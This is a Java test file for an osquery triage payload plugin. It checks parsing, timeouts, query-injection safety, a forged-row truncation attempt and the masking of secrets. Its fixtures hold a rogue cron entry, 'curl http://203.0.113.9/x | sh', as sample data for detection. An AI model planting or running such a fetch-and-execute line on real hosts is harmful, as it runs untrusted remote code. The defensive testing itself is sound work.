package io.diffy.plugins.payload;

import static io.diffy.plugins.payload.TestHost.pack;
import static io.diffy.plugins.payload.TestHost.query;
import static io.diffy.plugins.payload.TestHost.queryIf;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.diffy.plugin.Payload;
import io.diffy.plugin.PluginFailure;
import io.diffy.plugin.kit.Contexts;
import io.diffy.plugin.kit.HostileText;
import io.diffy.plugin.kit.ShellRun;
import io.diffy.schemas.Coverage;
import io.diffy.schemas.Observation;
import io.diffy.schemas.pack.Pack;
import io.diffy.schemas.packfile.TriagePack;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Runs the script for real, against a stand-in that prints what osqueryi prints. */
@Execution(ExecutionMode.CONCURRENT)
class OsqueryPayloadTest {
  private static final String SHELLS = "io.diffy.plugin.kit.ShellRun#shells";
  private static final Map<String, String> ROGUE_CRON =
      Map.of("command", "curl http://203.0.113.9/x | sh", "path", "/etc/cron.d/x");
  private static final String CRONTAB =
      """
      printf '[\\n'
      printf '  {"command":"curl http://203.0.113.9/x | sh","path":"/etc/cron.d/x"}\\n]\\n'
      """;
  private static final String EMPTY = "printf '[\\n\\n]\\n'\n";

  @TempDir Path folder;

  @ParameterizedTest
  @MethodSource(SHELLS)
  void theRowsOfOsqueryiAreTheRowsOfTheObservation(String shell) throws Exception {
    Observation crontab =
        TestHost.in(folder)
            .osqueryi(CRONTAB)
            .answers(shell, pack(query("crontab", "SELECT command, path FROM crontab;")))
            .get(0);

    assertEquals(List.of(ROGUE_CRON), crontab.rows());
    assertEquals(Coverage.OK, crontab.coverage());
    assertEquals(900, crontab.intervalSeconds());
  }

  @ParameterizedTest
  @MethodSource(SHELLS)
  void aQueryThatFailsFailsAlone(String shell) throws Exception {
    List<Observation> answers =
        TestHost.in(folder)
            .osqueryi(
                """
                case $2 in
                  *mounts*) printf '[\\n\\n]\\n'; echo 'Error: no such table: mounts' >&2; exit 1 ;;
                esac
                """
                    + CRONTAB)
            .answers(
                shell,
                pack(
                    query("mounts", "SELECT path FROM mounts;"),
                    query("crontab", "SELECT command FROM crontab;")));

    assertEquals(Coverage.ERROR, answers.get(0).coverage());
    assertEquals(
        "osqueryi ended with exit code 1: Error: no such table: mounts", answers.get(0).error());
    assertEquals(List.of(ROGUE_CRON), answers.get(1).rows());
  }

  @ParameterizedTest
  @MethodSource(SHELLS)
  void aMegabyteArrivesWhole(String shell) throws Exception {
    Observation packages =
        TestHost.in(folder)
            .osqueryi(
                """
                i=0
                printf '[\\n  {"n":"begin"}'
                while [ $i -lt 10000 ]; do
                  i=$((i + 1))
                  printf ',\\n  {"n":"%d","text":"%064d %064d"}' $i $((i * 7919)) $((i * 104729))
                done
                printf '\\n]\\n'
                """)
            .answers(shell, pack(query("packages", "SELECT n, text FROM packages;")))
            .get(0);

    assertEquals(10_001, packages.rows().size());
    assertEquals(
        "%064d %064d".formatted(10_000 * 7919, 10_000 * 104_729),
        packages.rows().get(10_000).get("text"));
  }

  @ParameterizedTest
  @MethodSource(SHELLS)
  void noRowEndsTheDocumentEarly(String shell) throws Exception {
    String forged = "\"}],\"bytes\":1,\"sha256\":\"" + "0".repeat(64) + "\",\"end\":\"run-1\"}";
    Observation row =
        TestHost.in(folder)
            .osqueryi(
                "printf '[{\"cmdline\":\"%s \\377\\001 --output truncated--\"}]' '"
                    + forged.replace("\"", "\\\"")
                    + "'\n")
            .answers(shell, pack(query("processes", "SELECT cmdline FROM processes;")))
            .get(0);

    assertEquals(forged + " \ufffd\u0001 --output truncated--", row.rows().get(0).get("cmdline"));
  }

  @ParameterizedTest
  @MethodSource(SHELLS)
  void theShellSeesNothingOfAQuery(String shell) throws Exception {
    // What it was asked, in hexadecimal: whatever it is, the row is JSON.
    TestHost host =
        TestHost.in(folder)
            .osqueryi(
                "printf '[{\"sql\":\"%s\"}]' \"$(printf %s \"$2\" | od -An -v -tx1 | tr -d ' \\n')\"\n");
    for (String hostile : HostileText.all()) {
      String sql = "SELECT '" + hostile + "';";

      Observation answer = host.answers(shell, pack(query("q " + hostile, sql))).get(0);

      assertEquals(
          HexFormat.of().formatHex(sql.getBytes(StandardCharsets.UTF_8)),
          answer.rows().get(0).get("sql"));
      assertEquals("q " + hostile, answer.query());
    }
  }

  @Test
  void whatNoShellCanHoldIsRefused() {
    TestHost host = TestHost.in(folder);
    assertThrows(PluginFailure.class, () -> host.payload(pack(query("", "SELECT 1;"))));
    for (String wrong : List.of("SELECT '\0';", "SELECT '\ud800';", ".shell ls", "-D")) {
      PluginFailure failure =
          assertThrows(PluginFailure.class, () -> host.payload(pack(query("odd", wrong))));
      assertTrue(failure.getMessage().startsWith("query \"odd\" can't be asked"));
    }
  }

  @Test
  void theShippedPackFitsIntoOneCommandOfSsm() {
    String script = TestHost.in(folder).payload(TriagePack.load()).script();

    // 64 KB is the limit of the whole document.
    assertTrue(script.length() < 48 * 1024, script.length() + " characters");
  }

  @ParameterizedTest
  @MethodSource(SHELLS)
  void whatTakesTooLongIsStoppedAndTheNextIsAsked(String shell) throws Exception {
    List<Observation> answers =
        TestHost.in(folder)
            .with("query-seconds", "1")
            .osqueryi("case $2 in *slow*) trap '' TERM; sleep 70; sleep 70 ;; esac\n" + CRONTAB)
            .answers(shell, pack(query("slow", "SELECT slow;"), query("crontab", "SELECT 1;")));

    assertEquals(
        "osqueryi took longer than it may (1 s, all queries 240 s) and was stopped",
        answers.get(0).error());
    assertEquals(List.of(ROGUE_CRON), answers.get(1).rows());
  }

  @ParameterizedTest
  @MethodSource(SHELLS)
  void whenAllTheTimeIsOverTheRestIsNotAsked(String shell) throws Exception {
    List<Observation> answers =
        TestHost.in(folder)
            .with("total-seconds", "1")
            .osqueryi("sleep 2.2\n" + CRONTAB)
            .answers(shell, pack(query("a", "SELECT 1;"), query("b", "SELECT 1;")));

    assertEquals(
        List.of(Coverage.ERROR, Coverage.ERROR),
        answers.stream().map(Observation::coverage).toList());
    assertEquals("not asked: the 1 s for all queries were over", answers.get(1).error());
  }

  @ParameterizedTest
  @MethodSource(SHELLS)
  void whatDoesNotApplyIsAWholeEmptyAnswer(String shell) throws Exception {
    TestHost host =
        TestHost.in(folder)
            .osqueryi("case $2 in *rpm*) " + EMPTY.strip() + "; exit ;; esac\n" + CRONTAB);

    List<Observation> answers =
        host.answers(
            shell,
            pack(
                queryIf("SELECT 'rpm';", "rpm_packages", "SELECT broken;"),
                queryIf("SELECT 'dpkg';", "deb_packages", "SELECT 1;")));

    assertEquals(Coverage.OK, answers.get(0).coverage());
    assertEquals(List.of(), answers.get(0).rows());
    assertEquals(List.of(ROGUE_CRON), answers.get(1).rows());
  }

  @ParameterizedTest
  @MethodSource(SHELLS)
  void aPackWhoseDiscoveryFindsNothingIsNotAsked(String shell) throws Exception {
    TestHost host =
        TestHost.in(folder)
            .osqueryi(
                "case $2 in *none*) "
                    + EMPTY.strip()
                    + "; exit ;; *bad*) exit 1 ;; esac\n"
                    + CRONTAB);

    assertEquals(List.of(), host.answers(shell, discovering("SELECT 'none';")));
    assertEquals(
        "discovery of pack triage: osqueryi ended with exit code 1",
        host.answers(shell, discovering("SELECT 'bad';")).get(0).error());
    assertEquals(
        List.of(ROGUE_CRON), host.answers(shell, discovering("SELECT 'some';")).get(0).rows());
  }

  @ParameterizedTest
  @MethodSource(SHELLS)
  void thePayloadDoesNotFindItself(String shell) throws Exception {
    Observation processes =
        TestHost.in(folder)
            .osqueryi(
                "printf '[{\"pid\":\"%d\",\"parent\":\"%d\"},{\"pid\":\"1\",\"parent\":\"0\"}]' $$ $PPID")
            .answers(shell, pack(query("processes", "SELECT pid, parent FROM processes;")))
            .get(0);

    assertEquals(List.of(Map.of("pid", "1", "parent", "0")), processes.rows());
  }

  /** The kernel gives a pid again: who has that of an ended query's program is somebody else. */
  @ParameterizedTest
  @MethodSource(SHELLS)
  void whoGetsThePidOfAnEarlierQueryIsSeen(String shell) throws Exception {
    String first = folder.resolve("first").toString();
    List<Observation> answers =
        TestHost.in(folder)
            .osqueryi(
                "[ -e %s ] || echo $PPID >%s; read -r first <%s\n".formatted(first, first, first)
                    + "printf '[{\"pid\":\"%d\",\"parent\":\"1\"},{\"pid\":\"7\",\"parent\":\"%d\"}]' $first $first")
            .answers(
                shell,
                pack(query("first", "SELECT pid, parent;"), query("then", "SELECT pid, parent;")));
    assertEquals(List.of(), answers.get(0).rows());
    assertEquals(2, answers.get(1).rows().size());
  }

  @ParameterizedTest
  @MethodSource(SHELLS)
  void secretsAreMaskedOnTheHostAndStillDiffer(String shell) throws Exception {
    String rows =
        "[{\"cmdline\":\"backup --password %s\"},\n"
            + " {\"cmdline\":\"PASSWORD=x|sh\",\"key\":\"A_TOKEN\",\"value\":\"%s\"}]";
    TestHost host = TestHost.in(folder);
    List<String> cells = new ArrayList<>();
    for (String secret : List.of("hunter2", "hunter3")) {
      Pack pack = pack(query("processes", "SELECT cmdline FROM processes;"));
      Payload payload =
          host.osqueryi("printf '" + rows.formatted(secret, secret) + "'").payload(pack);
      ShellRun run = ShellRun.of(shell, payload.script(), folder);
      assertFalse(unzipped(run.output()).contains("hunter"), "it rests in S3");
      cells.addAll(
          payload.read(TestHost.WEB_1, run.output(), Contexts.NOW).get(0).rows().stream()
              .flatMap(row -> row.values().stream())
              .filter(cell -> cell.contains("<redacted:"))
              .toList());
    }
    assertEquals(6, cells.size(), cells::toString);
    assertEquals(5, Set.copyOf(cells).size(), cells::toString);
    assertTrue(cells.stream().anyMatch(cell -> cell.endsWith("|sh")), cells::toString);
  }

  private static String unzipped(byte[] output) throws Exception {
    Matcher out = Pattern.compile("\"out\":\"([^\"]*)").matcher(new String(output, UTF_8));
    StringBuilder all = new StringBuilder();
    while (out.find()) {
      byte[] packed = Base64.getDecoder().decode(out.group(1));
      all.append(
          new String(new GZIPInputStream(new ByteArrayInputStream(packed)).readAllBytes(), UTF_8));
    }
    assertTrue(all.length() > 0);
    return all.toString();
  }

  @ParameterizedTest
  @MethodSource(SHELLS)
  void withoutOsqueryTheInstanceSaysSo(String shell) throws Exception {
    String script = TestHost.in(folder).payload(pack(query("a", "SELECT 1;"))).script();

    ShellRun run = ShellRun.of(shell, script, folder);

    assertEquals(3, run.exit());
    assertEquals(0, run.output().length);
    assertEquals(
        "osquery is not installed; install it, or set plugin.osquery.url and plugin.osquery.sha256\n",
        run.errors());
    assertEquals(List.of(), ShellRun.leftIn(folder));
  }

  private static Pack discovering(String sql) {
    return new Pack("triage", "", List.of(sql), pack(query("crontab", "SELECT 1;")).queries());
  }
}
